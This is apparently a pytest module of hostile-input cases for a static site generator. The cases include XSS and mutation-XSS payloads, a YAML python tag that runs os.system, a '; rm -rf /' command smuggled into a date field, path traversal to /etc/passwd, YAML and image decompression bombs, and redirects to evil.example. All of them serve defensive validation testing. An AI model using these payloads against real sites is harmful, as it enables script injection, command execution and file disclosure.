"""More hostile inputs, in the groups of test_hostile: what else an editor, a machine or an enemy may do."""

import io
import os
import socket
import struct
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from tests.support.hostility import (
    FRONT,
    HOSTILE,
    Case,
    body,
    h1_is,
    lay,
    names_no,
    raw,
    settings,
    short_paths,
    shows,
    try_case,
)
from tests.support.sites import CONFIG, Site


def front(**changes: str) -> Callable[[Site], object]:
    """The article with lines of its front matter changed or added."""
    return lambda site: site.write("uji.md", with_lines(**changes))


def with_lines(text: str = "Isi.\n", **changes: str) -> str:
    """The article's source with lines of its front matter changed or added."""
    lines = FRONT.split("\n")
    for key, value in changes.items():
        at = next((n for n, line in enumerate(lines) if line.startswith(f"{key}:")), None)
        if at is None:
            lines.insert(lines.index("---", 1), f"{key}: {value}")
        else:
            lines[at] = f"{key}: {value}"
    return "\n".join(lines) + text


def files(**named: str | bytes) -> Callable[[Site], object]:
    """Files below content/; __ stands for a slash and _ before the ending for a full stop."""

    def make(site: Site) -> None:
        for name, data in named.items():
            site.write(name.replace("__", "/").replace("_yaml", ".yaml").replace("_md", ".md"), data)

    return make


def fifo(site: Site) -> None:
    """A pipe that nobody writes to: whoever opens it waits for ever."""
    os.mkfifo(site.place("articles/pipa.md"))


def bound_socket(site: Site) -> None:
    """A socket among the articles."""
    place = site.place("articles/s.md")
    here = Path.cwd()
    os.chdir(place.parent)
    try:
        socket.socket(socket.AF_UNIX).bind("s.md")
    finally:
        os.chdir(here)


def device(site: Site) -> None:
    """A device that never ends, as an attachment."""
    os.mknod(site.place("articles/nol.pdf"), 0o20666, os.makedev(1, 5))
    site.write("uji.md", with_lines(attachments="[{file: nol.pdf, title: Nol}]"))


def hard_link(site: Site) -> None:
    """A second name for a file outside content/."""
    secret = site.folder / "rahasia.txt"
    secret.write_text("sangat rahasia")
    os.link(secret, site.place("articles/lampiran.txt"))
    site.write("uji.md", with_lines(attachments="[{file: lampiran.txt, title: Lampiran}]"))


def twin_files(site: Site) -> None:
    """Two names of one file, both within content/."""
    site.write("articles/a.pdf", b"%PDF-1.4")
    os.link(site.place("articles/a.pdf"), site.place("articles/b.pdf"))
    site.write("uji.md", with_lines(attachments="[{file: a.pdf, title: A}, {file: b.pdf, title: B}]"))


def linked_folder(site: Site) -> None:
    """A folder of articles that is a link to another place."""
    (site.folder.parent / "lain").mkdir()
    (site.folder.parent / "lain/x.md").write_text(FRONT)
    site.place("articles/lain").symlink_to(site.folder.parent / "lain")


def linked_content(site: Site) -> None:
    """A registry that is a link."""
    (site.folder / "lain.yaml").write_text("- name: X\n")
    site.place("themes.yaml").symlink_to(site.folder / "lain.yaml")


def png(width: int, height: int) -> bytes:
    """The beginning of a picture of some size."""
    return b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", width, height) + b"\x08\x06\0\0\0"


def jpeg(width: int, height: int) -> bytes:
    """A JPEG whose size stands behind 60 kB of what a camera wrote."""
    exif = b"\xff\xe1" + struct.pack(">H", 60_000) + bytes(59_998)
    return b"\xff\xd8" + exif + b"\xff\xc0\0\x11\x08" + struct.pack(">HH", height, width)


def whole(kind: str, width: int, height: int) -> bytes:
    """A whole picture of some size."""
    data = io.BytesIO()
    Image.new("L", (width, height)).save(data, kind)
    return data.getvalue()


def picture(name: str, data: bytes) -> Callable[[Site], object]:
    """An article with a picture."""

    def make(site: Site) -> None:
        site.write(f"articles/{name}", data)
        site.write("uji.md", with_lines(picture=f"{{file: {name}, alt: Foto}}"))

    return make


def many_tags(number: int) -> Callable[[Site], object]:
    """An article with many tags."""
    return front(tags="[" + ", ".join(f"t{n}" for n in range(number)) + "]")


def named(name: str | bytes) -> Callable[[Site], object]:
    """An article whose file has this name."""

    def make(site: Site) -> None:
        raw_name = name if isinstance(name, bytes) else name.encode()
        place = os.fsencode(site.place("articles")) + b"/" + raw_name
        with open(place, "wb") as file:  # noqa: PTH123 - a name of bytes
            file.write(FRONT.encode() + b"Isi.\n")

    return make


def config(text: str) -> Callable[[Site], object]:
    """Other settings."""
    return lambda site: (site.folder / "site_config.yaml").write_text(text)


def template(name: str, text: str) -> Callable[[Site], object]:
    """A template of the site's own."""

    def make(site: Site) -> None:
        (site.folder / "templates").mkdir()
        (site.folder / "templates" / name).write_text(text)

    return make


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{','.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(8)
)
CASES = (
    # front matter
    Case("a30-bom-twice", "any", (), raw(b"\xef\xbb\xbf\xef\xbb\xbf" + (FRONT + "Isi.\n").encode())),
    Case(
        "a31-yaml-bomb",
        "error",
        ("uji.md:2", "AR013"),
        raw(f"---\n{BOMB}title: x\ndate: 2021\n---\nIsi.\n".encode()),
    ),
    Case("a32-deep-flow", "error", ("uji.md:9", "AR008"), front(people="[" * 2000 + "]" * 2000)),
    Case(
        "a33-large-front",
        "error",
        ("uji.md:1", "AR008", "64 KiB"),
        front(stated="{platform: '" + "x" * 70_000 + "'}"),
    ),
    Case(
        "a34-dashes-and-spaces",
        "render",
        (),
        raw(FRONT.replace("---", "---   ").encode() + b"Isi.\n"),
        shows("Isi."),
    ),
    Case("a35-toml", "error", ("uji.md:1", "AR001"), raw(b"+++\ntitle = 'x'\n+++\nIsi.\n")),
    Case("a36-json", "error", ("uji.md", "AR"), raw(b'{"title": "x", "date": "2021"}\nIsi.\n')),
    Case(
        "a37-python-tag",
        "error",
        ("uji.md:2", "AR013"),
        front(title="!!python/object/apply:os.system ['touch PWNED']"),
        lambda site: None,
    ),
    Case(
        "a38-merge-key",
        "error",
        ("uji.md", "AR013"),
        raw(FRONT.replace("tags:", "<<: {title: y}\ntags:").encode()),
    ),
    Case("a39-number-key", "error", ("uji.md", "AR023"), raw(FRONT.replace("tags:", "1: x\ntags:").encode())),
    Case(
        "a40-null-key", "error", ("uji.md", "AR015"), raw(FRONT.replace("tags:", "? \n: x\ntags:").encode())
    ),
    Case(
        "a41-lone-cr-in-title", "any", (), raw((FRONT + "Isi.\n").replace("Uji kasus", "Uji\rkasus").encode())
    ),
    Case("a42-utf32", "error", ("uji.md:1", "AR"), raw((FRONT + "Isi.\n").encode("utf-32"))),
    Case(
        "a43-overlong-utf8",
        "error",
        ("uji.md:2", "AR004"),
        raw(FRONT.encode().replace(b"Uji kasus", b"Uji \xc0\xafkasus")),
    ),
    Case(
        "a44-conflict-marker",
        "error",
        ("uji.md", "AR073"),
        body("<<<<<<< HEAD\nSatu.\n=======\nDua.\n>>>>>>> lain\n"),
    ),
    Case("a45-directive", "error", ("uji.md:2", "AR"), raw(b"---\n%YAML 1.2\n---\ntitle: x\n---\n")),
    Case("a46-one-line", "error", ("uji.md:1", "AR"), raw(b"--- title: x date: 2021 ---")),
    Case("a47-a-megabyte-of-dashes", "error", ("uji.md:1", "AR"), raw(b"-" * 1_000_000)),
    Case("a48-a-megabyte-of-newlines", "any", (), body("\n" * 1_000_000)),
    Case("a49-over-a-megabyte", "error", ("uji.md:1", "AR007", "1 MiB"), body("kata " * 220_000)),
    Case("a50-key-of-another-language", "error", ("uji.md", "AR023"), front(judul="x")),
    # titles and values
    Case(
        "b40-title-braces",
        "render",
        (),
        front(title='"{{ 7*7 }} {% raw %} ${1} {0} %(x)s"'),
        h1_is("{{ 7*7 }} {% raw %} ${1} {0} %(x)s"),
    ),
    Case("b41-title-list", "error", ("uji.md:2", "AR016"), front(title="[a, b]")),
    Case("b42-title-map", "error", ("uji.md:2", "AR016"), front(title="{a: b}")),
    Case("b43-title-zero-width", "error", ("uji.md:2", "AR"), front(title='"\\u200b\\u200b"')),
    Case("b44-title-combining", "render", (), front(title='"' + "Z" + "\u0301" * 500 + '"'), short_paths),
    Case("b45-title-nel", "any", (), front(title='"a\\x85b\\u2028c"')),
    Case("b46-title-20001", "error", ("uji.md:2", "AR036", "20000"), front(title="x" * 20_001)),
    Case("b47-date-zero", "error", ("uji.md:3", "AR02"), front(date="0000-00-00")),
    Case("b48-date-far", "error", ("uji.md:3", "AR027"), front(date="9999-12-31")),
    Case("b49-date-arabic-digits", "error", ("uji.md:3", "AR02"), front(date="٢٠٢١-٠٩-٢٢")),
    Case("b50-date-expression", "error", ("uji.md:3", "AR026"), front(date="2021-09-22; rm -rf /")),
    Case("b51-date-leap", "error", ("uji.md:3", "AR027"), front(date="2021-02-29")),
    Case("b52-date-offset", "any", (), front(date="2021-10-21T00:30:00+99:99")),
    Case("b53-session-huge", "error", ("uji.md:5", "AR029"), front(session="9" * 5000)),
    Case("b54-session-superscript", "error", ("uji.md:5", "AR029"), front(session="²")),
    Case("b55-session-devanagari", "error", ("uji.md:5", "AR029"), front(session="१२")),
    Case("b56-session-list-of-1000", "any", (), front(session="[" + ", ".join(map(str, range(1000))) + "]")),
    Case("b57-time-24-61", "error", ("uji.md:9", "AR028"), front(time="24:61")),
    Case(
        "b58-person-html",
        "render",
        (),
        front(people='[{name: "<img src=x onerror=alert(1)>Ani", role: narasumber}]'),
        names_no("<img"),
    ),
    Case(
        "b59-source-javascript",
        "error",
        ("uji.md:9", "AR033"),
        front(source='{title: x, url: "javascript:alert(1)"}'),
    ),
    Case(
        "b60-source-url-quote",
        "any",
        (),
        front(source="{title: x, url: 'https://example.org/\"onmouseover=alert(1)'}"),
    ),
    Case(
        "b61-source-url-credentials",
        "any",
        (),
        front(source="{title: x, url: 'https://user:pass@example.org@evil.example/'}"),
    ),
    Case(
        "b62-alt-breakout",
        "render",
        (),
        lambda site: (
            site.write("articles/a.png", whole("PNG", 2, 2)),
            site.write("uji.md", with_lines(picture="{file: a.png, alt: '\"><script>alert(1)</script>'}")),
        ),
        names_no("<script>"),
    ),
    # lists of things
    Case("c10-1001-tags", "error", ("uji.md:8", "AR036", "1000"), many_tags(1001)),
    Case("c11-1000-tags", "render", (), many_tags(1000)),
    Case("c12-tag-device", "error", ("uji.md:8", "AR035"), front(tags="[CON]")),
    Case("c13-tag-html", "render", (), front(tags="['<b>x</b>']"), names_no("<b>x")),
    Case("c14-tag-nested-list", "error", ("uji.md:8", "AR016"), front(tags="[[a]]")),
    Case("c15-ignore-error", "error", ("uji.md", "AR"), front(ignore="[{code: AR020, reason: x}]")),
    Case("c16-withdrawn-without-reason", "error", ("uji.md", "AR037"), front(status="withdrawn")),
    Case("c17-self-apart", "any", (), files(people_yaml="- name: Ani\n  apart: [Ani]\n  variants: [Ani]\n")),
    Case(
        "c18-theme-cycle",
        "any",
        (),
        files(themes_yaml="- id: a\n  name: A\n  children:\n    - id: a\n      name: A\n"),
    ),
    Case(
        "c19-institutions-deep",
        "error",
        ("institutions.yaml", "AR008"),
        files(
            institutions_yaml="".join(
                f"{'  ' * (2 * n)}- name: I{n}\n{'  ' * (2 * n + 1)}children:\n" for n in range(40)
            )
        ),
    ),
    Case(
        "c20-redirect-to-script",
        "error",
        ("redirects.yaml:1", "AR038"),
        files(redirects_yaml='/lama/: "javascript:alert(1)"\n'),
    ),
    Case(
        "c21-redirect-out", "error", ("redirects.yaml:1", "AR038"), files(redirects_yaml="/../../lama/: /\n")
    ),
    Case(
        "c22-redirect-to-host",
        "error",
        ("redirects.yaml:1", "AR0"),
        files(redirects_yaml="/lama/: //evil.example/\n"),
    ),
    Case("c23-redirect-loop", "any", (), files(redirects_yaml="/a/: /b/\n/b/: /a/\n")),
    Case(
        "c24-redirect-over-manifest",
        "error",
        ("redirects.yaml:1", "AR087"),
        files(redirects_yaml="/manifest.json: /\n"),
    ),
    Case(
        "c26-redirect-below-a-file",
        "error",
        ("redirects.yaml:1", "AR087"),
        files(redirects_yaml="/sitemap.xml/: /\n"),
    ),
    Case(
        "c27-redirect-below-manifest",
        "error",
        ("redirects.yaml:1", "AR087"),
        files(redirects_yaml="/manifest.json/x/: /\n"),
    ),
    Case("c28-redirect-twice", "error", ("AR087",), files(redirects_yaml="/lama.txt: /\n/lama.txt/: /\n")),
    Case("c29-redirect-php", "any", (), files(redirects_yaml="/index.php: /\n")),
    Case(
        "c25-redirect-over-page",
        "error",
        ("redirects.yaml:1", "AR087"),
        files(redirects_yaml="/artikel/: /\n"),
    ),
    # addresses
    Case("d40-slug-con", "error", ("uji.md:9", "AR035"), front(slug="con")),
    Case("d41-file-named-nul", "error", ("nul.md", "AR035"), named("nul.md")),
    Case("d42-slug-com9", "error", ("uji.md:9", "AR035"), front(slug="com9")),
    Case("d43-slug-plural", "error", ("uji.md:9", "AR035"), front(slug="reports")),
    Case(
        "d44-page-named-tema",
        "error",
        ("pages/tema.md", "AR035"),
        files(pages__tema_md="---\ntitle: x\n---\nIsi.\n"),
    ),
    Case(
        "d45-page-named-aux",
        "error",
        ("pages/aux.md", "AR035"),
        files(pages__aux_md="---\ntitle: x\n---\nIsi.\n"),
    ),
    Case(
        "d46-series-named-con",
        "error",
        ("series/con.md", "AR035"),
        files(series__con_md="---\nname: Con\n---\nIsi.\n"),
    ),
    Case(
        "d47-institution-id-prn",
        "error",
        ("institutions.yaml:1", "AR035"),
        files(institutions_yaml="- {id: prn, name: KPU}\n"),
    ),
    Case(
        "d48-redirect-from-dots", "error", ("uji.md", "AR038"), front(redirect_from="/a/../../../etc/passwd")
    ),
    Case("d49-redirect-from-encoded", "error", ("uji.md", "AR038"), front(redirect_from="/%2e%2e/x/")),
    Case("d50-redirect-from-own", "any", (), front(redirect_from="/artikel/uji/")),
    Case("d51-name-of-255-bytes", "any", (), named("a" * 252 + ".md"), short_paths),
    Case("d52-name-only-signs", "error", ("!!!.md", "AR035"), named("!!!.md")),
    Case("d53-name-with-newline", "error", ("AR050",), named("a\nb: galat AR001.md")),
    Case("d54-name-with-escape", "error", ("AR050",), named("a\x1b[31mb.md")),
    Case("d55-name-not-utf8", "error", ("AR050",), named(b"a\xffb.md")),
    Case("d56-name-rtl", "error", ("AR050",), named("laporan\u202efdp.md")),
    Case("d57-name-nfd", "any", (), lambda site: (named("e\u0301.md")(site), named("\u00e9.md")(site))),
    Case("d58-name-case", "error", ("AR040",), lambda site: (named("Satu.md")(site), named("satu.md")(site))),
    Case("d59-slug-100-bytes", "render", (), front(slug="a" * 100)),
    Case("d60-slug-101-bytes", "error", ("uji.md:9", "AR035"), front(slug="a" * 101)),
    Case(
        "d61-attachment-named-con",
        "render",
        (),
        lambda site: (
            site.write("articles/con.pdf", b"%PDF-1.4"),
            site.write("uji.md", with_lines(attachments="[{file: con.pdf, title: C}]")),
        ),
        lambda site: None,
    ),
    Case(
        "d62-attachment-over-page",
        "error",
        ("uji.md:11", "AR136"),
        lambda site: (
            site.write("articles/index.html", b"<script>alert(1)</script>"),
            site.write("uji.md", with_lines("[x](index.html)\n")),
        ),
    ),
    # files
    Case("e20-fifo", "error", ("pipa.md:1", "AR050"), fifo),
    Case("e21-socket", "error", ("s.md:1", "AR050"), bound_socket),
    Case("e23-hard-link", "error", ("lampiran.txt:1", "AR050"), hard_link),
    Case("e24-hard-links-within", "render", (), twin_files),
    Case("e25-linked-folder", "error", ("articles/lain:1", "AR050"), linked_folder),
    Case("e26-linked-registry", "error", ("themes.yaml:1", "AR050"), linked_content),
    Case("e27-folder-named-md", "any", (), lambda site: site.place("articles/x.md").mkdir()),
    Case(
        "e28-attachment-is-folder",
        "error",
        ("uji.md", "AR051"),
        lambda site: (
            site.place("articles/berkas").mkdir(),
            site.write("uji.md", with_lines(attachments="[{file: berkas, title: x}]")),
        ),
    ),
    Case("e30-png-bomb", "error", ("uji.md", "AR135", "50"), picture("a.png", png(60_000, 60_000))),
    Case(
        "e31-jpeg-bomb", "error", ("uji.md", "AR135", "65500 × 65500"), picture("a.jpg", jpeg(65_500, 65_500))
    ),
    Case(
        "e32-gif-bomb",
        "error",
        ("uji.md", "AR135"),
        picture("a.gif", b"GIF89a" + struct.pack("<HH", 65535, 65535)),
    ),
    Case("e33-large-photo", "render", (), picture("a.jpg", whole("JPEG", 8_000, 6_000))),
    Case("e34-picture-that-is-none", "any", (), picture("a.png", b"<html><script>alert(1)</script>")),
    Case(
        "e35-svg-script",
        "error",
        ("uji.md:9", "AR136"),
        picture("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"),
    ),
    Case(
        "e36-attachment-html",
        "error",
        ("uji.md:9", "AR136"),
        lambda site: (
            site.write("articles/x.html", b"<script>alert(document.cookie)</script>"),
            site.write("uji.md", with_lines(attachments="[{file: x.html, title: x}]")),
        ),
    ),
    Case(
        "e37-attachment-out",
        "error",
        ("uji.md", "AR057"),
        front(attachments="[{file: ../../site_config.yaml, title: x}]"),
    ),
    Case(
        "e38-attachment-absolute",
        "error",
        ("uji.md", "AR05"),
        front(attachments="[{file: /etc/passwd, title: x}]"),
    ),
    Case(
        "e39-attachment-encoded",
        "error",
        ("uji.md", "AR05"),
        front(attachments="[{file: '%2e%2e/%2e%2e/site_config.yaml', title: x}]"),
    ),
    Case("e40-attachment-is-article", "any", (), front(attachments="[{file: uji.md, title: x}]")),
    Case(
        "e41-attachment-hidden",
        "error",
        ("uji.md", "AR051"),
        lambda site: (
            site.write("articles/.env", b"RAHASIA=1"),
            site.write("uji.md", with_lines(attachments="[{file: .env, title: x}]")),
        ),
    ),
    Case(
        "e42-attachment-registry",
        "error",
        ("uji.md:11", "AR136"),
        lambda site: (
            site.write("people.yaml", "- {name: Ani, note: rahasia}\n"),
            site.write("uji.md", with_lines("[x](../people.yaml)\n")),
        ),
    ),
    Case(
        "e43-double-ending",
        "error",
        ("uji.md:9", "AR136"),
        lambda site: (
            site.write("articles/a.pdf.exe", b"MZ"),
            site.write("uji.md", with_lines(attachments="[{file: a.pdf.exe, title: x}]")),
        ),
    ),
    # texts that attack readers
    Case(
        "f40-svg-onload",
        "render",
        ("uji.md:11", "AR054"),
        body("<svg/onload=alert(1)>\n\nAkhir.\n"),
        shows("Akhir."),
    ),
    Case("f41-js-tab", "any", (), body("<a href='java\tscript:alert(1)'>x</a>\n"), names_no("script:")),
    Case(
        "f42-js-entity",
        "render",
        (),
        body("<a href='&#106;avascript&colon;alert(1)'>x</a>\n"),
        names_no("javascript"),
    ),
    Case(
        "f43-data-html",
        "render",
        ("uji.md:11", "AR053"),
        body("[x](data:text/html;base64,PHNjcmlwdD4=)\n"),
        names_no("data:text"),
    ),
    Case(
        "f44-vbscript", "render", ("uji.md:11", "AR053"), body("[x](vbscript:msgbox)\n"), names_no("vbscript")
    ),
    Case(
        "f45-blob",
        "render",
        ("uji.md:11", "AR053"),
        body("[x](blob:https://evil.example/x)\n"),
        names_no("blob:"),
    ),
    Case(
        "f46-mxss-noscript",
        "any",
        (),
        body("<noscript><p title='</noscript><img src=x onerror=alert(1)>'>\n"),
        names_no("onerror="),
    ),
    Case(
        "f47-mxss-math",
        "render",
        (),
        body(
            "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>\n"
        ),
    ),
    Case(
        "f48-mxss-template",
        "render",
        (),
        body("<template><style></template><img src=x onerror=alert(1)></style>\n"),
    ),
    Case("f49-comment-breakout", "any", (), body("<!--><img src=x onerror=alert(1)>-->\n")),
    Case("f50-textarea", "render", (), body("<textarea>\n\nAkhir.\n"), shows("Akhir.")),
    Case("f51-plaintext", "render", (), body("<plaintext>\n\nAkhir.\n"), shows("Akhir.")),
    Case(
        "f52-style-import",
        "render",
        ("uji.md:11", "AR054"),
        body("<style>@import '//evil.example/x.css';</style>\n"),
        names_no("@import"),
    ),
    Case(
        "f53-srcset",
        "render",
        ("uji.md:11", "AR054"),
        body('<img src="" srcset="//evil.example/x 2x" alt="x">\n'),
        names_no("srcset"),
    ),
    Case(
        "f54-picture-tracker",
        "render",
        ("uji.md:11", "AR086"),
        body("![x](https://evil.example/pixel.gif)\n"),
        names_no("evil.example"),
    ),
    Case(
        "f55-a-ping",
        "render",
        ("uji.md:11", "AR054"),
        body('<a href="https://example.org" ping="https://evil.example" target=_blank>x</a>\n'),
        names_no("ping=", "target="),
    ),
    Case(
        "f56-form",
        "render",
        ("uji.md:11", "AR054"),
        body('<form action="https://evil.example"><input name=p></form>\n'),
        names_no("evil.example", "<input name=p"),
    ),
    Case(
        "f57-id-clobber",
        "render",
        (),
        body('<p id="main">x</p>\n\n<a id="cari" name="cari">y</a>\n'),
        names_no('id="cari"'),
    ),
    Case("f58-link-token", "any", (), body("arsip-0000-0- <a href='arsip-x-0-'>x</a> [y](baik-1.md)\n")),
    Case(
        "f59-jinja",
        "render",
        (),
        body("{{ config }} {% include '/etc/passwd' %} {# x #}\n"),
        shows("{{ config }}", "{% include"),
    ),
    Case(
        "f60-footnote-id",
        "render",
        (),
        body('a[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: b\n'),
    ),
    Case(
        "f61-table-breakout",
        "render",
        (),
        body("| a |\n|---|\n| </td></tr></table></main><script>alert(1)</script> |\n\nAkhir.\n"),
        shows("Akhir."),
    ),
    Case("f62-code-fence", "render", (), body("```\n<script>alert(1)</script>\n```\n"), names_no("<script>")),
    Case("f63-stx", "error", ("uji.md", "AR059"), body("________,_________@___] __``\n`_\n")),
    Case(
        "f64-details-open",
        "render",
        (),
        body("<details ontoggle=alert(1) open><summary>x</summary>y</details>\n"),
        names_no("ontoggle"),
    ),
    Case("f65-mailto-header", "render", (), body("[x](mailto:a@example.org?bcc=b@evil.example)\n")),
    Case("f66-unicode-scheme", "any", (), body("[x](ｊavascript:alert(1)) [y](javaſcript:alert(1))\n")),
    Case("f67-heading-ids", "render", (), body("# main\n\n# main\n\n# isi\n\n# __proto__\n")),
    Case(
        "f68-refresh",
        "render",
        ("uji.md:11", "AR054"),
        body('<meta http-equiv="refresh" content="0;url=https://evil.example">\n'),
        names_no("refresh"),
    ),
    # texts that parsers choke on
    Case("g30-hashes", "error", ("uji.md:1", "AR134"), body("#\n" * 60_000)),
    Case("g31-brackets", "any", (), body("[" * 500_000 + "\n")),
    Case("g32-links-open", "any", (), body("[a](" * 100_000 + "\n")),
    Case("g33-tags-open", "any", (), body("<a b='" * 100_000 + "\n")),
    Case("g34-emphasis", "any", (), body("*a_b" * 50_000 + "\n")),
    Case("g35-links", "any", (), body("[a](baik-1.md) " * 20_000 + "\n")),
    Case("g36-footnotes", "any", (), body("".join(f"x[^{n}]\n\n[^{n}]: y\n\n" for n in range(3000)))),
    Case("g37-headings", "any", (), body("# a\n\n" * 20_000)),
    Case("g38-setext", "any", (), body("a\n===\n" * 30_000)),
    Case("g39-backticks", "any", (), body("".join("`" * n + "a" for n in range(600)) + "\n")),
    Case("g40-entities", "any", (), body("&#x1F600;" * 50_000 + "\n")),
    Case("g41-nested-lists", "any", (), body("".join("  " * n + "- a\n" for n in range(500)))),
    Case("g42-nested-quotes", "any", (), body("> " * 3000 + "a\n")),
    Case(
        "g43-table-columns",
        "any",
        (),
        body("|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n" + ("|" + "b|" * 5000 + "\n") * 3),
    ),
    Case(
        "g44-reference-defs",
        "any",
        (),
        body("".join(f"[a{n}]: https://example.org/{n}\n" for n in range(10_000)) + "\n[a1]\n"),
    ),
    Case("g45-div-nesting", "any", (), body("<div>" * 20_000 + "x\n")),
    Case("g46-span-nesting", "any", (), body("<b>" * 50_000 + "x\n")),
    Case("g47-one-long-line", "any", (), body("kata " * 180_000 + "\n")),
    Case("g48-one-long-word", "any", (), body("a" * 900_000 + "\n")),
    Case("g49-quotes", "any", (), body('"a ' * 100_000 + "\n")),
    Case("g50-foreign-links", "any", (), body("[x](vb:a) " * 5_000 + "\n")),
    Case(
        "g51-registry-long",
        "any",
        (),
        files(institutions_yaml="".join(f"- name: KPU {n}\n" for n in range(20_000))),
    ),
    Case(
        "g52-glossary-long",
        "any",
        (),
        files(glossary_yaml="".join(f"- {{term: T{n}, expansion: x}}\n" for n in range(5_000))),
    ),
    Case("g53-flow-registry", "error", ("themes.yaml:1", "AR"), files(themes_yaml="[" * 300_000)),
    Case("g54-series-text", "any", (), files(series__s_md="---\nname: S\n---\n" + "#\n" * 40_000)),
    Case(
        "g55-participants",
        "any",
        (),
        front(participants="[" + ", ".join(f"{{text: p{n}, count: {n}}}" for n in range(1000)) + "]"),
    ),
    Case(
        "g56-span-of-centuries",
        "any",
        (),
        lambda site: site.write("uji.md", with_lines(date="1000-01-01", end="2100-12-31")),
    ),
    # links
    Case("h10-link-null", "error", ("uji.md:11", "AR05"), body("[x](a%00.md)\n")),
    Case("h11-link-self-fragment", "error", ("uji.md:11", "AR056"), body("[x](#tidak-ada)\n")),
    Case(
        "h12-link-encoded-dots",
        "error",
        ("uji.md:11", "AR057"),
        body("[x](%2e%2e/%2e%2e/%2e%2e/etc/passwd)\n"),
    ),
    Case("h13-link-backslash", "error", ("uji.md:1", "AR05"), body("[x](..\\..\\..\\etc\\passwd)\n")),
    Case("h14-link-config", "error", ("uji.md:11", "AR057"), body("[x](../../site_config.yaml)\n")),
    Case("h15-link-folder", "error", ("uji.md:11", "AR051"), body("[x](../articles/)\n")),
    Case("h16-link-query", "render", (), body("[x](baik-1.md?x=<script>)\n"), names_no("<script>")),
    Case("h17-link-absolute-out", "error", ("uji.md:11", "AR083"), body("[x](/../../etc/passwd)\n")),
    Case("h18-bad-port", "render", (), body("[x](https://example.org:99999999/)\n")),
    Case("h19-bad-ipv6", "render", (), body("[x](https://[::1/) ![y](http://[/)\n")),
    Case("h20-idn", "render", (), body("[x](https://xn--/ ) [y](https://аррӏе.example/)\n")),
    # settings, templates, output
    Case("j20-config-yaml-bomb", "error", ("site_config.yaml:3", "AR013"), config(CONFIG + BOMB)),
    Case("j21-config-huge", "error", ("site_config.yaml:1", "AR0"), config(CONFIG + "#" * 5_000_000)),
    Case(
        "j22-config-binary",
        "error",
        ("site_config.yaml:", "AR004"),
        lambda site: (site.folder / "site_config.yaml").write_bytes(bytes(range(256))),
    ),
    Case("j23-config-unknown-key", "error", ("site_config.yaml:3", "AR023"), settings("titel: x")),
    Case("j24-config-output-nul", "error", ("site_config.yaml:3", "AR0"), settings('output: "a\\0b"')),
    Case(
        "j25-config-output-templates",
        "error",
        ("site_config.yaml:3", "AR070"),
        lambda site: (template("x.html", "x")(site), settings("output: templates/out")(site)),
    ),
    Case("j26-config-output-home", "error", ("site_config.yaml:3", "AR070"), settings("output: ~")),
    Case(
        "j27-config-title-html",
        "render",
        (),
        config("title: '<script>alert(1)</script>'\nbase_url: https://example.org/\n"),
    ),
    Case(
        "j28-config-contact-js",
        "error",
        ("site_config.yaml:3", "AR0"),
        settings("contact: 'javascript:alert(1)'"),
    ),
    Case(
        "j29-config-folder",
        "error",
        ("site_config.yaml:1", "AR071"),
        lambda site: (
            (site.folder / "site_config.yaml").unlink(),
            (site.folder / "site_config.yaml").mkdir(),
        ),
    ),
    Case(
        "j30-manifest-lists-out",
        "render",
        (),
        lambda site: (
            (site.folder / "penting.txt").write_text("jangan hapus"),
            (site.output / "manifest.json").write_text(
                (site.output / "manifest.json")
                .read_text()
                .replace('"files": {', '"files": {\n"../penting.txt": [12, "00"],', 1)
            ),
            body("Isi.\n")(site),
        ),
        lambda site: (site.folder / "penting.txt").read_text(),
    ),
    Case("j31-page-size-zero", "error", ("site_config.yaml:3", "AR0"), settings("page_size: 0")),
    Case("j32-language-path", "error", ("site_config.yaml:3", "AR030"), settings("language: ../../etc")),
)


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """The two good articles, built once."""
    site = Site.make(tmp_path_factory.mktemp("hostile") / "situs")
    lay(HOSTILE / "base", site)
    assert site.build().status == 0
    return site


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.id)
def test_more_hostile_input(case: Case, base: Site, tmp_path: Path) -> None:
    """It ends as the table says, within its time, without a traceback."""
    try_case(case, base, tmp_path / "situs")


def test_no_number_is_used_twice() -> None:
    assert len({case.id for case in CASES}) == len(CASES) > 60
    assert len({case.id.partition("-")[0] for case in CASES}) == len(CASES)
